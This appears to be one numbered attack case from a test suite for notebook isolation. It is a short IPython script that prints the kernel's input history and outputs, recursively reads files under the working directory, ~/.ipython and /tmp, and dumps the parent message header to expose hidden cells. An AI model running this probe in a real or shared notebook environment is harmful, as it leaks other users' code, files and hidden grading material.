# attack: 34
# title: input history, outputs and notebooks on disk are printed
# success: a later, hidden cell stands in the output
# naive: leak
import glob
import itertools
import os

shell = get_ipython()
print(globals().get("In"), globals().get("Out"))
print(list(shell.history_manager.get_range(raw=True)))
print(list(shell.history_manager.get_tail(100, raw=True)))
for pattern in ("*", "*/*", os.path.expanduser("~/.ipython/**/*"), "/tmp/**/*"):
    for path in itertools.islice(glob.iglob(pattern, recursive=True), 200):
        try:
            if os.path.isfile(path):
                with open(path, "rb") as file:
                    print(path, file.read(50_000), flush=True)
        except OSError as error:  # gone since it was listed
            print(path, error.errno)
print(getattr(shell, "parent_header", ""))
